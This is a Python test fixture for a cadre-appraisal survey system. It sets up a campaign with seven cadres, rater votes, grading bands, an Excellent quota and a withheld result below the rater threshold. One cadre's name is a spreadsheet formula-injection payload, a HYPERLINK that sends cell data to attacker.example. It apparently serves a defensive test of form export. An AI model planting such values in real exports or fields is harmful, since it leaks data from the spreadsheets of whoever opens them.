"""A fixed, opened campaign for the official forms: institution-staff rules, seven cadres.

Rules: the ``institution-staff`` preset (优秀/合格/基本合格/不合格; bands 90, 75, 60;
Excellent needs more than half the votes; Excellent quota 20% across the
agency, rounded down; under investigation means no grade).  k = 3.

Superiors R1-R3 rate every cadre but B3, whom only R1 and R2 rate.  Every item
of a ballot gets one answer (good 100, fairly_good 80, fair 60), so each
dimension and the composite are that answer's points, averaged over raters:

- A1 (甲): good x3, votes excellent -> 100.00, Excellent by band and votes;
- A2 (甲): good, good, fairly_good -> 93.33, votes excellent: Excellent by band,
  but the quota has 1 place (20% of 5 graded: A1, A2, A3, A4, B1) and A1 ranks
  first, so 合格;
- A3 (甲): fair x3 -> 60.00, votes basically_competent -> 基本合格;
- A4 (甲): fairly_good x3 -> 80.00, votes competent -> 合格;
- B1 (乙), named ``=HYPERLINK(...)``: fairly_good x3 -> 80.00 -> 合格;
- B2 (乙): good x3, but HR marked it under investigation -> no grade (暂不确定等次),
  and it takes no part in the quota;
- B3 (乙): two raters, fewer than k: composite, dimensions, votes and grade withheld.

Counts: 甲 4 assessed: 优秀 1, 合格 2, 基本合格 1 (25.0%, 50.0%, 25.0%); 乙 3
assessed: 合格 1, no grade 2 (33.3%, 66.7%); all 7: 1, 3, 1, 0, 2 (14.3%,
42.9%, 14.3%, 0.0%, 28.6%), one Excellent place.
"""

from __future__ import annotations

from datetime import datetime

from sqlmodel import Session

from storage.models import Campaign
from surveys.collection.ballots import CadreAnswers, open_ballot, submit_ballot
from surveys.rules.presets import with_preset
from surveys.rules.questionnaire import load_questionnaire
from surveys.setup.barring import mark_cadre
from surveys.setup.campaigns import KeyFileCustody, create_campaign
from surveys.setup.invitations import issue_invitations
from surveys.setup.roster import import_roster
from tests.factories import BOX_KEYS, CLOSES, OPENS, SECRET, opened_responses, roster_rows, tokens

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"点击")'
CADRES = [
    {"id": "A1", "name": "甲一", "unit": "甲局", "post": "科长"},
    {"id": "A2", "name": "甲二", "unit": "甲局", "post": "副科长"},
    {"id": "A3", "name": "甲三", "unit": "甲局", "post": "科员"},
    {"id": "A4", "name": "甲四", "unit": "甲局", "post": "科员"},
    {"id": "B1", "name": FORMULA_NAME, "unit": "乙局", "post": "科长"},
    {"id": "B2", "name": "乙二", "unit": "乙局", "post": "副科长"},
    {"id": "B3", "name": "乙三", "unit": "乙局", "post": "科员"},
]
# Per rater, per cadre: (answer to every item, vote).
PLAN = {
    "R1": {"A1": ("good", "excellent"), "A2": ("good", "excellent"),
           "A3": ("fair", "basically_competent"), "A4": ("fairly_good", "competent"),
           "B1": ("fairly_good", "competent"), "B2": ("good", "excellent"),
           "B3": ("good", "excellent")},
    "R2": {"A1": ("good", "excellent"), "A2": ("good", "excellent"),
           "A3": ("fair", "basically_competent"), "A4": ("fairly_good", "competent"),
           "B1": ("fairly_good", "competent"), "B2": ("good", "excellent"),
           "B3": ("good", "excellent")},
    "R3": {"A1": ("good", "excellent"), "A2": ("fairly_good", "excellent"),
           "A3": ("fair", "basically_competent"), "A4": ("fairly_good", "competent"),
           "B1": ("fairly_good", "competent"), "B2": ("good", "excellent")},
}  # fmt: skip


def forms_roster():
    raters = [
        {"id": rater, "name": f"测评人{rater}", "phone": "", "telegram": ""} for rater in PLAN
    ]
    links = [(rater, cadre, "superior") for rater, plan in PLAN.items() for cadre in plan]
    return roster_rows(CADRES, raters, links)


def sealed_forms_campaign(session: Session, now: datetime) -> Campaign:
    """The campaign with every ballot in and B2 marked, its box still sealed."""
    roster = import_roster(session=session, rows=forms_roster(), name="表格名册", now=now)
    campaign = create_campaign(
        session=session,
        name="2026年度考核",
        kind="annual",
        roster_id=roster.id,
        questionnaire=with_preset(load_questionnaire("annual"), "institution-staff"),
        opens_at=OPENS,
        closes_at=CLOSES,
        now=now,
        custody=KeyFileCustody(BOX_KEYS),
    )
    issue_invitations(session=session, campaign=campaign, secret_key=SECRET)
    session.commit()
    links = tokens(session, campaign)
    for rater, plan in PLAN.items():
        form = open_ballot(session=session, token=links[rater], now=now)
        answers = {}
        for section in form.sections:
            value, vote = plan[section.cadre.external_id]
            answers[section.cadre.id] = CadreAnswers(
                items={item.key: value for d in section.dimensions for item in d.items},
                vote=vote,
            )
        submit_ballot(session=session, token=links[rater], answers=answers, now=now)
        session.commit()
    mark_cadre(
        session=session, campaign=campaign, roster_id="B2", flags=["under_investigation"],
        tier=None, actor="test", now=now,
    )  # fmt: skip
    session.commit()
    return campaign


def forms_campaign(session: Session, now: datetime) -> Campaign:
    """The campaign above with its box opened (every sealed box in the database is)."""
    campaign = sealed_forms_campaign(session, now)
    opened_responses(session)
    session.refresh(campaign)
    return campaign
